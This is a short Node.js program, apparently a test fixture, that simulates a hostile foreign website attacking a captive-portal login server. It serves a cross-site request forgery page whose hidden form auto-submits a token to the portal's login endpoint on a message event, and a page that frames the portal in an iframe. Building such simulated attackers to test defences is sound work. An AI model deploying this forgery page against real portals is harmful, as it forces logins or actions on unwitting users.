// A foreign site in the internet, as a program: pages that attack a login server. Its origin is http://…:8080.
//   evil-site.js PORTAL-URL TOKEN
import { createServer } from 'node:http';

const [portal = '', token = ''] = process.argv.slice(2);

/** Sends the form without a click, when it is told that the visitor is captive again. */
const forgery = `<!doctype html><title>Forgery</title>
  <form method="post" action="${portal}login"><input name="token" value="${token}"></form>
  <script>addEventListener('message', () => document.forms[0].submit())</script>`;
const frame = `<!doctype html><title>Frame</title><iframe src="${portal}"></iframe>`;

createServer((request, response) => {
  response.setHeader('Content-Type', 'text/html');
  response.end(request.url === '/frame' ? frame : forgery);
}).listen(8080, '::', () => process.stdout.write('ready\n'));
